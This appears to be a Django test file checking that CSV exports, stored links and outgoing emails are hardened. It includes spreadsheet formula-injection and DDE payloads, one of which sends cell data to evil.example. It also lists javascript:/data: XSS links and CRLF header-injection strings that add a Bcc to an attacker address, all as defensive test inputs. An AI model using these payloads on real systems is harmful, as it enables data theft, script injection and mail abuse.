"""What leaves the system: CSV exports a spreadsheet cannot run, links that cannot run script, emails that are delivered or visibly failed."""

import csv
import datetime
import io
import smtplib

import pytest
from django.core import mail
from django.core.mail.backends.base import BaseEmailBackend
from django.urls import reverse
from django.utils import timezone

from core.errors import InvalidInput
from core.exports import csv_cell
from core.mail import resend_due
from core.models import OutgoingEmail
from incidents import services
from incidents.models import Communication, MessageTemplate
from tests import factories
from tests.incidents import factories as f
from tests.plans.factories import published_plan
from tests.training.factories import make_course

pytestmark = pytest.mark.django_db

# Names a spreadsheet would evaluate as formulas, as typed by the person (or an attacker).
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def formula_people():
    return [
        factories.staff(username=f"formula{i}", first_name=name, last_name="")
        for i, name in enumerate(FORMULA_NAMES)
    ]


def read_csv(response):
    assert response.status_code == 200 and response.streaming
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def assert_neutralised(rows, column):
    names = {row["username"]: row[column] for row in rows}
    for i, name in enumerate(FORMULA_NAMES):
        cell = names[f"formula{i}"]
        # The person's name is there, as text a spreadsheet shows and never evaluates.
        assert cell.startswith("'") and name.strip() in cell, cell


def test_plan_compliance_csv_quotes_cells_a_spreadsheet_would_run(client, compliance_user):
    formula_people()
    plan, version, _, _ = published_plan(code="CSV")
    client.force_login(compliance_user)
    rows = read_csv(
        client.get(reverse("admin:plans_planversion_compliance_csv", args=[version.pk]))
    )
    assert_neutralised(rows, "full_name")
    # Numbers from numeric columns stay numbers.
    assert {row["version"] for row in rows} == {str(version.number)}
    assert all(row["user_id"].isdigit() for row in rows)


def test_training_compliance_csv_quotes_cells_a_spreadsheet_would_run(client, compliance_user):
    formula_people()
    course = make_course(title='=HYPERLINK("http://evil.example")')
    client.force_login(compliance_user)
    rows = read_csv(client.get(reverse("admin:training_course_compliance_csv")))
    assert_neutralised(rows, "full_name")
    assert {row["course"] for row in rows} == {"'" + course.title}
    assert all(row["user_id"].isdigit() and row["course_id"].isdigit() for row in rows)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),  # text that looks like a number is still text someone typed
        ("＝1+1", "'＝1+1"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        (-5, -5),  # a genuine number from a numeric column is left as it is
        (2.5, 2.5),
        (None, ""),
    ],
)
def test_one_cell_rule_for_every_export(value, written):
    assert csv_cell(value) == written


# Links (issue 11, item 13): only http(s) links and site paths, wherever a link is stored.

UNSAFE_LINKS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/phish",
    "/\\evil.example/phish",
    "https:evil.example",
    "mailto:someone@example.org",
]
SAFE_LINKS = [
    "https://wiki.example.org/drill?id=4#notes",
    "HTTP://EXAMPLE.ORG/",
    "/admin/incidents/incident/1/change/",
]


@pytest.mark.parametrize("link", UNSAFE_LINKS)
def test_a_change_request_refuses_a_link_that_is_not_http_or_a_site_path(link):
    from django.core.exceptions import ValidationError

    from plans import services
    from plans.models import PlanChangeRequest

    plan, _, author, _ = published_plan(code="LNK")
    with pytest.raises(ValidationError) as refused:
        services.change_request_create(plan=plan, actor=author, summary="s", source_url=link)
    assert list(refused.value.message_dict) == ["source_url"]
    assert not PlanChangeRequest.objects.exists()


@pytest.mark.parametrize("link", SAFE_LINKS)
def test_a_change_request_keeps_an_http_link_or_a_site_path(link):
    from plans import services

    plan, _, author, _ = published_plan(code="LNK")
    request = services.change_request_create(plan=plan, actor=author, summary="s", source_url=link)
    assert request.source_url == link


@pytest.mark.parametrize("link", UNSAFE_LINKS)
def test_the_admin_refuses_an_unsafe_link_with_a_message_on_the_field(client, coordinator, link):
    from plans.models import PlanChangeRequest

    plan, _, _, _ = published_plan(code="LNK")
    client.force_login(coordinator)
    response = client.post(
        reverse("admin:plans_planchangerequest_add"),
        {"plan": plan.pk, "summary": "Rota", "source": "Drill", "source_url": link},
    )
    assert response.status_code == 200
    assert "source_url" in response.context["adminform"].form.errors
    assert b"Enter an http:// or https:// link" in response.content
    assert not PlanChangeRequest.objects.exists()


def stored_before_validation(plan, author, link):
    """A row as it could be stored before links were validated (no full_clean then)."""
    from plans.models import PlanChangeRequest

    return PlanChangeRequest.objects.create(
        plan=plan, requested_by=author, summary="Old", source="Old review", source_url=link
    )


def test_a_stored_unsafe_link_is_never_a_live_link_in_the_admin_or_the_api(
    client, api, coordinator
):
    plan, _, author, _ = published_plan(code="LNK")
    stored_before_validation(plan, author, "javascript:alert(1)")
    client.force_login(coordinator)
    page = client.get(reverse("admin:plans_plan_change", args=[plan.pk])).content.decode()
    assert "Old review" in page and 'href="javascript:' not in page
    body = api(coordinator).get("/api/v1/plan-change-requests/").json()
    assert [row["source_url"] for row in body["results"]] == [""]


def test_a_stored_unsafe_link_does_not_block_publishing_the_version_that_addresses_it(
    approver,
):
    from plans import services
    from tests.plans.factories import fill, publish

    plan, _, author, _ = published_plan(code="LNK", approver=approver)
    old = stored_before_validation(plan, author, "JaVaScRiPt:alert(1)")
    v2 = fill(services.version_create_draft(plan=plan, actor=author), author, text="New")
    publish(v2, author=author, approver=approver)
    old.refresh_from_db()
    assert old.status == "addressed" and old.addressed_in == v2


# Email (issue 11, item 15): one-line subjects, checked addresses, failures recorded and retried.


class RefusingBackend(BaseEmailBackend):
    """A mail server that hangs up on every message."""

    def send_messages(self, email_messages):
        raise smtplib.SMTPServerDisconnected("Connection unexpectedly closed")


REFUSING = "tests.core.test_outputs.RefusingBackend"
TITLE_WITH_BREAKS = "Portal down\r\nBcc: attacker@evil.example\nX-Injected: yes"


def test_an_escalation_of_a_title_with_line_breaks_is_emailed_with_a_one_line_subject(
    coordinator, django_capture_on_commit_callbacks
):
    boss = factories.UserFactory(username="boss", email="boss@example.org")
    incident = f.incident(title=TITLE_WITH_BREAKS)
    with django_capture_on_commit_callbacks(execute=True):
        services.incident_escalate(
            incident=incident, actor=coordinator, level="3", to_user=boss, reason="Customers"
        )
    [message] = mail.outbox
    assert message.recipients() == ["boss@example.org"]
    assert message.subject.endswith("Portal down Bcc: attacker@evil.example X-Injected: yes")
    headers = message.message()
    assert headers["Bcc"] is None and headers["X-Injected"] is None


def test_a_communication_whose_template_fills_in_such_a_title_is_sent_on_one_line(
    coordinator, django_capture_on_commit_callbacks
):
    incident = f.incident(title=TITLE_WITH_BREAKS)
    template = MessageTemplate.objects.create(name="Update", subject="{title}", body="{status}")
    with django_capture_on_commit_callbacks(execute=True):
        sent = services.communication_send(
            incident=incident, actor=coordinator, template=template, audience="a@example.org"
        )
    [message] = mail.outbox
    assert (
        message.subject == sent.subject == "Portal down Bcc: attacker@evil.example X-Injected: yes"
    )
    assert message.recipients() == ["a@example.org"]


BAD_AUDIENCES = ["not-an-email", "a@b.c\r\nBcc: x@y.z", "ok@example.org, a@b.c\nBcc: x@y.z"]


@pytest.mark.parametrize("audience", BAD_AUDIENCES)
def test_a_communication_to_an_address_that_is_not_one_is_refused(coordinator, audience):
    incident = f.incident()
    with pytest.raises(InvalidInput) as refused:
        services.communication_send(
            incident=incident, actor=coordinator, subject="s", body="b", audience=audience
        )
    assert refused.value.field == "audience"
    assert "is not an email address" in refused.value.message
    assert not Communication.objects.exists() and not OutgoingEmail.objects.exists()


@pytest.mark.parametrize("audience", BAD_AUDIENCES)
def test_the_admin_shows_a_bad_address_as_an_error_on_the_audience(client, coordinator, audience):
    incident = f.incident()
    client.force_login(coordinator)
    response = client.post(
        reverse("admin:incidents_communication_add"),
        {"incident": incident.pk, "subject": "Update", "body": "Text", "audience": audience},
    )
    assert response.status_code == 200
    errors = response.context["adminform"].form.errors
    assert "is not an email address" in errors["audience"][0]
    assert not Communication.objects.exists()


def test_a_communication_the_mail_server_refuses_is_failed_on_the_incident_and_retried(
    client, coordinator, settings, django_capture_on_commit_callbacks
):
    settings.EMAIL_BACKEND = REFUSING
    incident = f.incident()
    with django_capture_on_commit_callbacks(execute=True):
        sent = services.communication_send(
            incident=incident,
            actor=coordinator,
            subject="Update",
            body="b",
            audience="a@example.org",
        )
    failure = incident.timeline.get(text__contains="failed")
    assert "Email “Update” to a@example.org failed (attempt 1 of 5)" in failure.text
    assert "SMTPServerDisconnected" in failure.text
    client.force_login(coordinator)
    listing = client.get(reverse("admin:incidents_communication_changelist")).content.decode()
    assert "failed: SMTPServerDisconnected" in listing
    email = OutgoingEmail.objects.get()
    assert (email.status, email.attempts) == ("failed", 1)
    assert email.history.first().history_change_reason == "Delivery failed (attempt 1)"

    # The mail server is back; the retry (the escalation cron runs it) delivers it once.
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    later = timezone.now() + datetime.timedelta(minutes=3)
    assert [e.status for e in resend_due(now=later)] == ["sent"]
    assert resend_due(now=later) == []
    assert [m.to for m in mail.outbox] == [["a@example.org"]]
    assert incident.timeline.filter(text__contains="delivered at attempt 2").exists()
    listing = client.get(reverse("admin:incidents_communication_changelist")).content.decode()
    assert "failed:" not in listing and sent.subject in listing


def test_an_escalation_the_mail_server_refuses_shows_failed_on_the_incident_page(
    client, coordinator, settings, django_capture_on_commit_callbacks
):
    settings.EMAIL_BACKEND = REFUSING
    boss = factories.UserFactory(username="boss", email="boss@example.org")
    incident = f.incident()
    with django_capture_on_commit_callbacks(execute=True):
        services.incident_escalate(
            incident=incident, actor=coordinator, level="3", to_user=boss, reason="Customers"
        )
    client.force_login(coordinator)
    page = client.get(reverse("admin:incidents_incident_change", args=[incident.pk]))
    assert page.status_code == 200
    text = page.content.decode()
    assert "failed: SMTPServerDisconnected" in text  # the escalation's email column
    assert "to boss@example.org failed (attempt 1 of 5)" in text  # the timeline


def test_an_email_that_keeps_failing_stops_after_the_last_attempt_and_says_so(
    coordinator, settings, django_capture_on_commit_callbacks
):
    settings.EMAIL_BACKEND = REFUSING
    settings.EMAIL_MAX_ATTEMPTS = 2
    incident = f.incident()
    with django_capture_on_commit_callbacks(execute=True):
        services.communication_send(
            incident=incident,
            actor=coordinator,
            subject="Update",
            body="b",
            audience="a@example.org",
        )
    later = timezone.now() + datetime.timedelta(hours=1)
    assert [e.attempts for e in resend_due(now=later)] == [2]
    assert resend_due(now=later + datetime.timedelta(days=1)) == []
    assert incident.timeline.filter(text__contains="the last").exists()
    assert OutgoingEmail.objects.get().status == "failed"


def test_a_training_reminder_the_mail_server_refuses_is_recorded_and_retried(
    settings, django_capture_on_commit_callbacks
):
    from django.core.management import call_command

    from tests.training.factories import complete, people

    settings.EMAIL_BACKEND = REFUSING
    course = make_course(title="Phishing", validity_days=90)
    [person] = people(1)
    complete(person, course, timezone.now() - datetime.timedelta(days=100))
    # The reminder is delivered once its transaction commits (the test's never does).
    with django_capture_on_commit_callbacks(execute=True):
        call_command("send_training_reminders", stdout=io.StringIO())
    email = OutgoingEmail.objects.get()
    assert email.status == "failed" and email.recipients == [person.email]
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    resend_due(now=timezone.now() + datetime.timedelta(minutes=3))
    assert [m.to for m in mail.outbox] == [[person.email]]


def test_an_email_being_sent_is_left_alone_and_sent_again_if_its_sender_died():
    from core.mail import _claim, email_deliver, email_queue

    email = email_queue(subject="Update", body="b", recipients=["a@example.org"])
    now = timezone.now()
    assert _claim(email.pk, now).status == "sending"  # a worker took it, then died
    assert email_deliver(email.pk, now=now).status == "sending"  # a second worker leaves it
    assert mail.outbox == []
    assert resend_due(now=now + datetime.timedelta(minutes=5)) == []
    assert [e.status for e in resend_due(now=now + datetime.timedelta(minutes=11))] == ["sent"]
    assert [m.to for m in mail.outbox] == [["a@example.org"]]
    reasons = [
        h.history_change_reason for h in OutgoingEmail.objects.get().history.order_by("history_id")
    ]
    assert reasons == ["Queued", "Sending (attempt 1)", "Sending (attempt 2)", "Delivered (attempt 2)"]
